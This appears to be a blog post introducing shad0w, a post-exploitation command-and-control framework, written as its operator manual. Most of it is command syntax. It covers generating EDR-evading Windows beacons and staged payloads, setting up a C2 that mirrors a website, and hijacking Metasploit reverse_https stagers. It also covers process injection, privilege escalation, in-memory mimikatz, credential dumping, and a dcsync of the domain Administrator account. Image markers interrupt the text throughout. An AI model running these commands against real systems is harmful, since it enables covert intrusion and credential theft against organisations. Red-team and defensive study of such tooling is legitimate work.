Introducing SHAD0W

Available from the projects GitHub

Post exploitation is large part of a red team engagement. While many organisations begin to mature and start to deploy a range of sophisticated Endpoint Detection & Response solutions (EDR) onto their networks, it requires us, as attackers to also mature. We need to upgrade our arsenal to give us the capabilities tosuccessfully operatate on their networks. That is why today, I am releasing shad0w.

shad0w is a post exploitation framework which is designed to operate covertly on such networks, providing the operator with much greater control over their engagements. In the past I havewent into detail about some of the methods and techniques shad0w uses. This blog is going to serve as documentation for how to use shad0w, I will keep it up to date with the new features that come out in the future.


shad0w is designed to be run inside docker, this is to make life easier for theoperator as it has some very specific dependencies which are required for it to work correctly. Installation is very simple, just requiring the two commands shown below.

$ gitclone && cd shad0w
$ sudo ./shad0w install

This will build the a docker container named shad0w. It will take roughly 10 minutes to build.

Once this has finished you will be able to usethe shad0w command. This command should be used to launch shad0w rather than doing it manually via docker.

Once installed the below command

$ shad0w --help

Should give this output



shad0w implants are called beacons. There are two types of beacons: secure and insecure.
Secure beacons are designed to operate in environments where it is vital to remain undetected where as insecure beacons are for environments where the security is much more relaxed.


Each beacon has a static and staged payload option. static payloads will store all the beacon code inside it so will be much larger. Where as staged payloads only contain a stub which willdownload and execute the rest of the payload.

There is also support for metasploits reverse_https stagers, I will go into more detail about this later in this post.

The general format for generating a beacon is as follows.

  • Payload

    This is controlled via the -p flag and is in the format arch / os / security / static. For example to generate a 64 bitsecure staged windows beacon, the payload string would be x64/windows/secure and to create a static version it would be x64/windows/secure/static. Currently there is only support for 64 bit windows but in the future there will be a much wider range of architectures and operating systems supported.

  • Address

    This is the IP/Domain that the beacon will connect back to. It can either be a redirector or the C2 depending on your tradecraft. Its controlled by the -H flag.

  • Port

    The port that the beacon will call back on. By defualt this is set to 443 though this can be overridden byusing the -P flag.

  • Jitter

    The jitter is the delay between callbacks that the beacon will make. By defualt it is set to 1 second but this value can be changed via the -j flag.

  • Format

    This is the format of the beacon. Currently there are 4 different formats; EXE, DLL, Powershell, ShellCode. They correspond to exe, dll, psh and raw respectively. Its controlled via the -f flag.• Output

    This is the file to store the generated beacon in.

  • No Shrink

    Because of the JSON library the beacons use they can be quite big. The reduce the size when being generated the EXE will be compressed via UPX then some obfuscation methods are used to hide the fact UPX was used. To skip out this stage you can use the -n flag.

  • Debug ModeTo compile the beacon in debug mode use the -d flag.

Below is an example of generating a secure staged beacon in EXE format.

$ shad0w beacon -p x64/windows/secure -H -f exe -o beacon.exe


Setting Up The C2

Although a teamserver is coming soon currently each user has to spin up their own C2 instance. This is done using the listen argument when calling shad0w.

$ shad0w listen --help


Some options for setting up the C2 are below.

  • Address & Port

    The address and port that the C2 will listen on are both handled by the flags -a and -p flags respectively.

  • Custom Certificates

    By using the -k and -c flags you are able to tell the C2 to use different certificates and keys. You are also able generate new defualts by running make in the certs/ directory.• Mirroring Website

    The C2 provides the ability to live proxy a website, so if connected to by a web browser the C2 will proxy all content to and from the website its mirroring. This can be set up by using the -m flag.

  • Debug Mode

    Toggle with the -d flag.

  • Setting The Endpoint

    It is important to set the endpoint. This is the first place the beacon will callback to, either a redirector or the C2. Whatever you set as the -H when creating the beacon should be set as the C2 endpoint via the -e flag.

The below command is an example of spinning up a C2 server. It will take roughly 20-30 seconds as it will compile fresh payloads for use with stagers and exploits.

$ shad0w listen -e

This will be the interface you will be presented with once the C2 hasloaded.


Catching Meterpreter Callbacks

Instead of rewriting every metasploit exploit and modules, I figured the more sane option would be to add support for metasploit stagers allowing you to load a shad0w beacon instead of meterpreter. Doing this only requires you to follow a couple extra steps.

First you need to make sure that the LHOST and LPORT both point to the shad0w C2. Then disable the default metasploit payload handler and set the exit function to none.

msf5> set DisablePayloadHandler true
msf5> set EXITFUNC noneOnce that is done you will need to set the StagerURILength. This is important so that the C2 will be able to identify a meterpreter stager callback. It can be set to any value but you must remember it.

msf5> set StagerURILength 1337

Its only possible to stage a shad0w beacon over reverse_https stagers so the payload will need to be set as that.

msf5> set payload windows/x64/meterpreter/reverse_https

Once this is done you will need to makesure that your MsfUriSize variable in shad0w is set to the same as your StagerURILength in metasploit. This can be done using the set command.

shad0w ≫ set -v MsfUriSize -d 1337

Now when the metasploit modules is run, if it executes successfully you will be given a shad0w beacon.



Interacting With Beacons

Interacting and using beacons is very simple and is done using commands via the CLI.

The beacons command is used to list and interact with a beacon. You can use it to list the current beacons.

shad0w ≫ beacons


To then interact with the beacon you use the -i flag with the beacon number.

shad0w ≫ beacons -i 1


When you interact with a beacon the bar at the bottom of your terminal will appear holding information about the beacon.


To list the available commands you can use help. There are 40 currently available commands.

Using the file system

With an active shad0w beacon it is very easy to interact with the hosts file system. This can be done usingsimilar commands to the linux command line.

To list the files in a directory you can use the ls command.

shad0w(SYSTEM@DC01) ≫ ls
shad0w(SYSTEM@DC01) ≫ ls C:\Users


You can change the current directory with the cd command.

shad0w(SYSTEM@DC01) ≫ cd C:\Users


Its also possible to display the current directory and delete files.

shad0w(SYSTEM@DC01) ≫ pwd
shad0w(SYSTEM@DC01) ≫ rm deleteme.txtYou can create directories with the mkdir command

shad0w(SYSTEM@DC01) ≫ mkdir DirectoryName


Process Management

It's important that once you have an active beacon you are not confined to a single process and are able to list, migrate and spawn new beacons and processes as much as you see fit. It's possible to do all of this with shad0w.

Using the getpid you can get infomation about the process the beacon is running in.

shad0w(SYSTEM@DC01) ≫ getpid


With the ps command you can list all the current processes and some infomation about them.

shad0w(SYSTEM@DC01) ≫ ps


If you decide to move from the current process you can use a range of options. To simply move the current beacon fully intoa new process you can use the migrate command.

shad0w(SYSTEM@DC01) ≫ migrate -p 4404


To inject a new copy of the current beacon into a process you can using the binject command.

shad0w(SYSTEM@DC01) ≫ binject -p 4404


It is also possible to inject both raw shellcode and DLLs into processes. This can be done using the shinject and dllinject.

shad0w(SYSTEM@DC01) ≫ shinject -p 8725 -f shellcode.bin
shad0w(SYSTEM@DC01) ≫ dllinject -p 4267 -f yourfile.dll

Privilege Escalation

There is built in support for privilage escalation via the elevate command. To list the avaliable exploits you can use the -l command and the -c an -u to both check and use an exploit

shad0w(LOCAL SERVICE@DC01) ≫ elevate -l
shad0w(LOCAL SERVICE@DC01) ≫ elevate -c system_printspoofer
shad0w(LOCAL SERVICE@DC01) ≫ elevate -u system_printspoofer

Using the above commands you can see how we went from a beacon with the LOCAL SERVICE permissions to the machine account DC01$


In the future I will be writing more exploits.

In-Memory Code Execution

It's possible to execute .NET assemblies, EXEs, DLLs, VBS, JS or XSLs files inside memory. This ispossible via the execute command. The file must be passed via the -f flag and any arguments via the -p flag

shad0w(SYSTEM@DC01) ≫ execute -f bin/mimikatz.x64.exe
shad0w(SYSTEM@DC01) ≫ execute -f bin/mimikatz.x64.exe -p coffee


Socks Proxy

A slightly custom version of sharpsocks is currently used for socks proxying. The easiest way to setup a socks connection is by using the -q flag, this will open a 'quick' connection.

shad0w(SYSTEM@DC01) ≫ sharpsocks -q


Its also possible using the server and listen arguments to create much more complex connections.

Unmanaged PowerShell

There is also support for unmanaged powershell execution. It is handled via the psh command. The usage is very flexible and allows you to perform a wide range of actions.

Using the -c flag will execute a single powershell query.

shad0w(SYSTEM@DC01) ≫ psh -c Write-Output $PSversionTable


It's also possible to use modules. To list the currently available modules you can use the -l flag. Modules can be added by placing them in the scripts directory and rebuilding shad0w.shad0w(SYSTEM@DC01) ≫ psh -l


To import a module (or modules) you need to use the -m flag. This will host the modules on a random path on the C2, it will then be downloaded and invoked before the command given via -c is executed.

shad0w(SYSTEM@DC01) ≫ psh -m GetHash -c Invoke-GetHash
shad0w(SYSTEM@DC01) ≫ psh -m GetHash,PowerUp -c Invoke-AllChecks; Invoke-GetHash


You can get infomation about a modules using the -i flag.

.NET Enumeration

You can list the available .NET versions via the dotnet command.

shad0w(SYSTEM@DC01) ≫ dotnet



I have written modules for all of the GhostPack binarys. This allows you to run them from a single command, without having to execute anything.

shad0w(SYSTEM@DC01) ≫ seatbelt
shad0w(SYSTEM@DC01) ≫ rubeus
shad0w(SYSTEM@DC01) ≫ sharpdpapi
shad0w(SYSTEM@DC01) ≫ sharpwmi
shad0w(SYSTEM@DC01) ≫ sharpupshad0w(SYSTEM@DC01) ≫ safetykatz
shad0w(SYSTEM@DC01) ≫ sharpdump
shad0w(SYSTEM@DC01) ≫ sharpchrome


Using these modules its possible to perform a range of lateral movement techniques with ease.


There is bloodhound support via the sharphound command, like all modules it supports all the command line switches of the original program.

shad0w(SYSTEM@DC01) ≫ sharphound

Once sharphound has run you can use the download command to download the output.

shad0w(SYSTEM@DC01) ≫ downloadThere is also a built in mimikatz module. This extends features even further allowing you to perform actions such as dcsync and pth much easier.

As this is an example I will show dcsyncing from the DC, but it obviously still works in other locations and situations.

shad0w(SYSTEM@DC01) ≫ mimikatz -x "lsadump::dcsync /user:Administrator"


Killing A Beacon

